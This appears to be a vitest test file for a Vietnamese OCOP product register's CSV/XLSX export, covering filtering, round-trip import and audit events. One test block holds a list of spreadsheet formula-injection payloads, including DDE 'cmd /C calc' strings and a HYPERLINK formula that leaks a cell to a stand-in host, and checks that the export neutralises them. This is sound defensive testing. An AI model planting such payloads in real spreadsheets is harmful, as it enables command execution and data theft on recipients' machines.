import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { dayOf } from '#core/day';
import type { RegisterQuery } from '#core/registerQuery';
import { producers, products, recognitions } from '#db/schema';
import { events } from '#db/stampSchema';
import { exportRegister } from '#server/actions/exportRegister.ts';
import type { Deps } from '#server/deps.ts';
import { inert, writeCsv } from '#server/export/csv.ts';
import { fileOf } from '#server/export/file.ts';
import { atOnce } from '#server/export/table.ts';
import { writeXlsx } from '#server/export/xlsx.ts';
import { fieldOf } from '#server/import/columns.ts';
import { readRecordKind } from '#server/import/kinds.ts';
import { unzipped } from '#test/export/support/unzip.ts';
import { foundOffice, type Office } from '#test/import/support/office.ts';
import { NOW, openOffice, recognise, temporaryFolder } from '#test/support/register.ts';
import { registerText } from '#web/text/register.ts';

const ALL = { all: true, areaIds: [], producerIds: [] };
const QUERY: RegisterQuery = {
  ...{ q: '', star: null, group: null, status: null, areaId: null, kind: null },
  ...{ asOf: dayOf(NOW), sort: 'name' },
};

async function bytesOf(bytes: AsyncIterable<Uint8Array<ArrayBuffer>>): Promise<Buffer> {
  const pieces = [];
  for await (const piece of bytes) pieces.push(piece);
  return Buffer.concat(pieces);
}

async function exported(deps: Deps, query: Partial<RegisterQuery> = {}, format: 'csv' | 'xlsx' = 'csv') {
  const file = await exportRegister(deps, ALL, { query: { ...QUERY, ...query }, format, lang: 'vi' });
  return { ...file, bytes: await bytesOf(file.bytes) };
}

const parsed = (bytes: Buffer): string[][] =>
  parse(bytes, { bom: true, relax_column_count: true, record_delimiter: '\r\n' });

/** Everything a spreadsheet was ever seen to run. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '   =1+1',
  '\u00a0=cmd|" /C calc"!A0',
  '=HYPERLINK("https://example.invalid/?x="&A1,"xem")',
  "=cmd|'/C calc'!A0",
];

/** With other eyes than the writer's: what a spreadsheet makes of a cell once it has trimmed it. */
const isLive = (cell: string) => /^[=+\-@＝＋－＠]/u.test(cell.replace(/^[\s\0\u00a0\u3000]+/u, ''));

describe('16 formulas, put where names stand', () => {
  const table = () => ({
    above: [`Lọc: tìm “${PAYLOADS[0]}”`],
    headings: ['Tên', ...PAYLOADS],
    rows: atOnce(PAYLOADS.map((payload) => [payload, payload])),
  });

  test('are 0 live in CSV', async () => {
    const cells = parsed(await bytesOf(writeCsv(table()))).flat();
    expect(cells.length).toBeGreaterThan(48);
    expect(cells.filter(isLive)).toEqual([]);
  });

  test('are 0 live in XLSX: no <f>, every one a text', async () => {
    const parts = await unzipped(await writeXlsx(table()));
    const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
    expect([...parts.values()].join('')).not.toMatch(/<f[\s>/]/);
    expect(sheet.match(/<c [^>]*t="(?!s"|inlineStr")/g) ?? []).toEqual([]);
    expect(sheet).toMatch(/<pane [^>]*ySplit="2"[^>]*state="frozen"/);
  });

  test('ordinary texts are left as they are', () => {
    for (const text of ['Mật ong', 'a=b', '5 + 5', "O'Brien", '']) expect(inert(text)).toBe(text);
  });
});

describe('The register of xã Thanh Mai as a file', () => {
  const folder = temporaryFolder();
  let deps: Deps;
  beforeAll(async () => {
    deps = await openOffice(folder.path);
    await recognise(
      deps,
      { product: 'Mật ong hoa rừng Thanh Mai', gtin: '2000000000015' },
      {
        product: 'Bánh gai',
        producer: 'Công ty TNHH Trực Hùng',
        star: 3,
        decision: '121/QĐ-UBND',
        group: 'Đồ uống',
      },
      { product: 'Kem đậu xanh', producer: 'Tổ hợp tác Kem', until: '01/12/2026', decision: '122/QĐ-UBND' },
      { product: 'Tương làng', producer: 'HTX Tương', signed: '01/02/2022', decision: '9/QĐ-UBND' },
      { product: '-18 °C kem que', producer: 'HTX Tương', decision: '123/QĐ-UBND' },
    );
  });
  afterAll(() => {
    deps.db.close();
    folder.remove();
  });

  test('says as of when it is, and what it was narrowed to', async () => {
    const [title, asOf, filter] = parsed((await exported(deps, { star: 4, q: 'mật' })).bytes);
    expect(title).toEqual(['Sổ OCOP']);
    expect(asOf).toEqual(['Tại ngày 22/11/2026; xuất lúc 22/11/2026 09:00; 1 sản phẩm']);
    expect(filter).toEqual(['Lọc: tìm “mật”; 4 sao']);
  });

  test('holds exactly what is filtered', async () => {
    const names = async (query: Partial<RegisterQuery>) =>
      parsed((await exported(deps, query)).bytes)
        .slice(4)
        .map((cells) => cells[1]);
    expect(await names({ status: 'lapsed' })).toEqual(['Tương làng']);
    expect(await names({ status: 'ending-30' })).toEqual(['Kem đậu xanh']);
    expect(await names({ asOf: '2023-01-01' as RegisterQuery['asOf'], status: 'in-force' })).toEqual([
      'Tương làng',
    ]);
    expect(await names({})).toHaveLength(5);
  });

  test.each(['vi', 'en'] as const)('has headings and words an import understands, in %s', (lang) => {
    const { columns, file } = registerText(lang);
    for (const [name, heading] of Object.entries(columns)) {
      const field = { id: undefined, recordKind: 'recordKind', signedOn: 'signedOn' }[name] ?? name;
      expect(fieldOf(heading), heading).toBe(name === 'id' ? undefined : field);
    }
    for (const status of ['in-force', 'ending', 'pending'] as const)
      expect(readRecordKind(file.recordKinds[status]).reason, status).toBeNull();
    expect(readRecordKind(file.recordKinds.lapsed).reason).toBe('validTo');
    expect(readRecordKind(file.recordKinds.withdrawn).reason).toBe('withdrawn');
  });

  test.each([
    'csv',
    'xlsx',
  ] as const)('is read back by the importer as the same register, from %s', async (format) => {
    const { bytes } = await exported(deps, {}, format);
    const other = await foundOffice();
    const report = await other.bring(new Uint8Array(bytes));
    expect(report).toMatchObject({ rows: 5, imported: 5, incomplete: 0, refused: [] });
    const again = await exported(other.deps, {}, 'csv');
    const rows = (file: Buffer) =>
      parsed(file)
        .slice(3)
        .map((cells) => cells.slice(1));
    expect(rows(again.bytes)).toEqual(rows((await exported(deps)).bytes));
    other.close();
    expect((await deps.db.orm.select().from(products)).length).toBe(5);
  });

  test('leaves an event of who took what', async () => {
    const before = (await deps.db.orm.select().from(events)).length;
    const { rows } = await exported(deps, { star: 3 }, 'xlsx');
    expect(rows).toBe(1);
    const [event] = (await deps.db.orm.select().from(events)).slice(before);
    expect(event).toMatchObject({ verb: 'export', noun: 'register', nounId: '2026-11-22', actor: 'lan' });
    expect(JSON.parse(event!.after!)).toMatchObject({ format: 'xlsx', rows: 1, star: 3 });
  });
});

describe('The register of 132 real rows', () => {
  let office: Office;
  beforeEach(async () => {
    office = await foundOffice();
  });
  afterEach(() => office.close());

  test('goes out and comes back: the same products, producers and recognitions', async () => {
    await office.bring(readFileSync('test/import/fixtures/recognised-products.csv'));
    const { bytes, rows } = await exported(office.deps);
    expect(rows).toBe(129);
    const other = await foundOffice();
    const report = await other.bring(new Uint8Array(bytes));
    expect(report).toMatchObject({ rows: 129, refused: [] });
    const told = async ({ deps: { db } }: Office) => ({
      products: (await db.orm.select().from(products)).map(({ nameKey }) => nameKey).sort(),
      producers: new Set((await db.orm.select().from(producers)).map(({ nameKey }) => nameKey)),
    });
    expect(await told(other)).toEqual(await told(office));
    const current = async ({ deps: { db } }: Office) =>
      (await db.orm.select().from(recognitions)).map(
        ({ star, validFrom, validTo }) => `${star} ${validFrom} ${validTo}`,
      );
    const [mine, theirs] = [await current(office), await current(other)];
    for (const one of theirs) expect(mine).toContain(one);
    other.close();
  });
});

test('a file is named for its format and never holds more than a piece in memory', async () => {
  let asked = 0;
  async function* rows() {
    for (let i = 0; i < 3; i++) {
      asked++;
      yield [[`dòng ${i}`]];
    }
  }
  const file = fileOf({ above: [], headings: ['Tên'], rows: rows() }, 'csv', 'so');
  expect(file.name).toBe('so.csv');
  const iterator = file.bytes[Symbol.asyncIterator]();
  await iterator.next();
  expect(asked).toBe(0);
  await iterator.next();
  expect(asked).toBe(1);
});
